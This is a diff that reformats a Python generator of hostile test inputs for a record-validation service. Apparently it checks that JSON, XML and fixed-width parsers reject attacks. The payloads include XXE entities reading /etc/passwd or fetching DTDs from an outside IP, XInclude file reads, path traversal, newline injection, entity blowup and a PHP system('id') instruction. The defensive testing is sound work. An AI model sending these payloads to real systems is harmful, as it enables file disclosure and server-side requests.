@@ -164,12 +164,8 @@ def json_cases() -> Iterator[Case]:
             lambda d, v=value: d["data"]["persons"][0].update(birth_date=v),
         )
     # envelope attacks
-    yield variant(
-        "secret", "classification_not_permitted", lambda d: d["classification"].update(tier="SECRET")
-    )
-    yield variant(
-        "top-secret", "classification_not_permitted", lambda d: d["classification"].update(tier="TOP SECRET")
-    )
+    yield variant("secret", "classification_not_permitted", lambda d: d["classification"].update(tier="SECRET"))
+    yield variant("top-secret", "classification_not_permitted", lambda d: d["classification"].update(tier="TOP SECRET"))
     yield variant("unknown-agency", "unknown_agency", lambda d: d["origin"].update(agency="99"))
     yield variant("agency-injection", "schema_invalid", lambda d: d["origin"].update(agency="01\n48"))
     yield variant("id-path-traversal", "schema_invalid", lambda d: d.update(id="../../etc/passwd"))
@@ -191,22 +187,16 @@ def json_cases() -> Iterator[Case]:
         "schema_invalid",
         lambda d: d["data"].update(persons=[{"id": f"p{i}"} for i in range(10_000)]),
     )
-    yield variant(
-        "long-string-1mb", "schema_invalid", lambda d: d["data"].update(summary="A" * 1_000_000, bogus=1)
-    )
+    yield variant("long-string-1mb", "schema_invalid", lambda d: d["data"].update(summary="A" * 1_000_000, bogus=1))
     yield variant("control-chars", "schema_invalid", lambda d: d.update(id="hostile\u0000\u001b[2J"))
     yield variant("unicode-bidi-id", "schema_invalid", lambda d: d.update(id="01-\u202eevil"))
-    yield variant(
-        "many-keys-100k", "schema_invalid", lambda d: d["data"].update({f"k{i}": i for i in range(100_000)})
-    )
+    yield variant("many-keys-100k", "schema_invalid", lambda d: d["data"].update({f"k{i}": i for i in range(100_000)}))
 
 
 def big_json_cases() -> Iterator[Case]:
     """Built at test time: too big to commit."""
     body = _dump(_record())
-    yield Case(
-        "common-json", "big-10mb-field", body[:-1] + b',"x":"' + b"A" * 10_000_000 + b'"}', "body_too_large"
-    )
+    yield Case("common-json", "big-10mb-field", body[:-1] + b',"x":"' + b"A" * 10_000_000 + b'"}', "body_too_large")
     columns = b",".join(b'"c%d":0' % i for i in range(1_000_000))
     yield Case("common-json", "big-million-columns", b"{" + columns + b"}", "body_too_large")
     yield Case("common-json", "big-million-element-array", b"[" + b"0," * 999_999 + b"0]", "schema_invalid")
@@ -238,15 +228,9 @@ def xml_cases(adapter: str, fixture: bytes) -> Iterator[Case]:
         "quadratic-blowup",
         decl + b'<!DOCTYPE r [<!ENTITY a "' + b"x" * 50_000 + b'">]><r>' + b"&a;" * 50_000 + b"</r>",
     )
-    yield case(
-        "external-entity-file", decl + b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'
-    )
-    yield case(
-        "external-entity-http", decl + b'<!DOCTYPE r [<!ENTITY x SYSTEM "http://198.51.100.1/x">]><r>&x;</r>'
-    )
-    yield case(
-        "parameter-entity", decl + b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://198.51.100.1/p.dtd"> %p;]><r/>'
-    )
+    yield case("external-entity-file", decl + b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>')
+    yield case("external-entity-http", decl + b'<!DOCTYPE r [<!ENTITY x SYSTEM "http://198.51.100.1/x">]><r>&x;</r>')
+    yield case("parameter-entity", decl + b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://198.51.100.1/p.dtd"> %p;]><r/>')
     yield case("external-dtd", decl + b'<!DOCTYPE r SYSTEM "http://198.51.100.1/evil.dtd"><r/>')
     yield case("external-dtd-public", decl + b'<!DOCTYPE r PUBLIC "-//X//Y" "file:///etc/passwd"><r/>')
     yield case(
@@ -255,9 +239,9 @@ def xml_cases(adapter: str, fixture: bytes) -> Iterator[Case]:
     )
     yield case(
         "xinclude",
-        fixture.replace(
-            f"<{root}".encode(), f'<{root} xmlns:xi="http://www.w3.org/2001/XInclude"'.encode(), 1
-        ).replace(b"</", b'<xi:include href="file:///etc/passwd" parse="text"/></', 1),
+        fixture.replace(f"<{root}".encode(), f'<{root} xmlns:xi="http://www.w3.org/2001/XInclude"'.encode(), 1).replace(
+            b"</", b'<xi:include href="file:///etc/passwd" parse="text"/></', 1
+        ),
     )
     yield case("pi-before-root", decl + b'<?xml-stylesheet href="http://198.51.100.1/x.xsl"?><r/>')
     yield case("pi-php", decl + b"<r><?php system('id'); ?></r>")
@@ -330,9 +314,7 @@ def fixed_width_cases(fixture: bytes) -> Iterator[Case]:
     yield case("unknown-record-type", b"ZZZZ" + fixture[4:])
     yield case("json-instead", _dump(_record()))
     yield case("only-newlines", b"\n" * 100_000)
-    yield case(
-        "invalid-dates", fixture.replace(b"20260112", b"20260230", 1).replace(b"19800101", b"19801332", 1)
-    )
+    yield case("invalid-dates", fixture.replace(b"20260112", b"20260230", 1).replace(b"19800101", b"19801332", 1))
 
 
 def adapter_cases() -> Iterator[Case]:
